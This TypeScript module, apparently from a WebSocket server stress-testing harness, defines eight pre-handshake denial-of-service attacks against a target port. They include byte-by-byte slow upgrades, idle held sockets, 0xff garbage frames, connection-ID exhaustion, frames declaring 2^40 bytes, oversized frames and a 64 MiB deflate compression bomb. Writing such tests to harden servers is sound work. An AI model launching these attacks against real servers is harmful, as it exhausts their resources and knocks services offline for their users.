/** Attacks before the handshake: what anybody can do who reaches the port. */
import type { Socket } from 'node:net';
import { deflateRawSync } from 'node:zlib';
import { CROWD, SOCKETS } from '../plan/attack-plan.js';
import { HostilePeer } from '../raw/hostile-peer.js';
import { maskedFrame } from '../raw/masked-frame.js';
import type { SocketPool } from '../raw/socket-pool.js';
import { awaitUpgrade, type UpgradeShape, upgradeHead } from '../raw/upgrade.js';
import type { Attack } from './attack.js';

/** Between two bytes of somebody slow, ms. */
const BYTE_EVERY_MS = 20;

const ABOVE_LIMIT = Buffer.alloc(1_048_577);

function keepUpgraded(pool: SocketPool, count: number, begin: (socket: Socket) => void, shape?: UpgradeShape): void {
  pool.keep(count, (socket) => {
    awaitUpgrade(socket, () => {
      socket.resume();
      begin(socket);
    });
    pool.write(socket, upgradeHead(pool.target, shape));
  });
}

/** Byte after byte of `bytes`, and nothing once all are sent. */
function bytesOf(bytes: Uint8Array): () => Uint8Array | undefined {
  let at = 0;
  return () => (at < bytes.length ? bytes.subarray(at, ++at) : undefined);
}

const slowHeads: Attack = (pool) => {
  pool.keep(SOCKETS, (socket) => pool.trickle(socket, bytesOf(upgradeHead(pool.target)), BYTE_EVERY_MS));
};

const slowHandshakes: Attack = (pool) => {
  keepUpgraded(pool, SOCKETS, (socket) => {
    const frame = maskedFrame(new HostilePeer(pool, socket).handshakeRequest());
    pool.trickle(socket, bytesOf(frame), BYTE_EVERY_MS);
  });
};

const silentSockets: Attack = (pool) => keepUpgraded(pool, SOCKETS, () => {});

const garbageHandshakes: Attack = (pool) => {
  const garbage = Buffer.concat(Array.from({ length: 64 }, () => maskedFrame(Buffer.alloc(1_024, 0xff))));
  keepUpgraded(pool, CROWD, (socket) => pool.write(socket, garbage));
};

/** Each stays, so that the next needs another place. */
const newIds: Attack = (pool) => {
  const next = (): void => {
    pool.open(
      (socket) => new HostilePeer(pool, socket).introduce(next),
      () => pool.after(2, next),
    );
  };
  for (let i = 0; i < 8; i++) next();
};

const declaredOversize: Attack = (pool) => {
  const frame = maskedFrame(Buffer.alloc(64), { declaredBytes: 2 ** 40 });
  keepUpgraded(pool, CROWD, (socket) => pool.write(socket, frame));
};

const oversize: Attack = (pool) => {
  const frame = maskedFrame(ABOVE_LIMIT);
  keepUpgraded(pool, CROWD, (socket) => pool.write(socket, frame));
};

/** 64 MiB of zeros in 64 KiB. */
const compressionBomb: Attack = (pool) => {
  const frame = maskedFrame(deflateRawSync(Buffer.alloc(64 * 1_048_576)), { compressed: true });
  keepUpgraded(pool, CROWD, (socket) => pool.write(socket, frame), { compression: true });
};

export const socketAttacks = {
  'slow-heads': slowHeads,
  'slow-handshakes': slowHandshakes,
  'silent-sockets': silentSockets,
  'garbage-handshakes': garbageHandshakes,
  'new-ids': newIds,
  'declared-oversize': declaredOversize,
  oversize,
  'compression-bomb': compressionBomb,
} satisfies Record<string, Attack>;
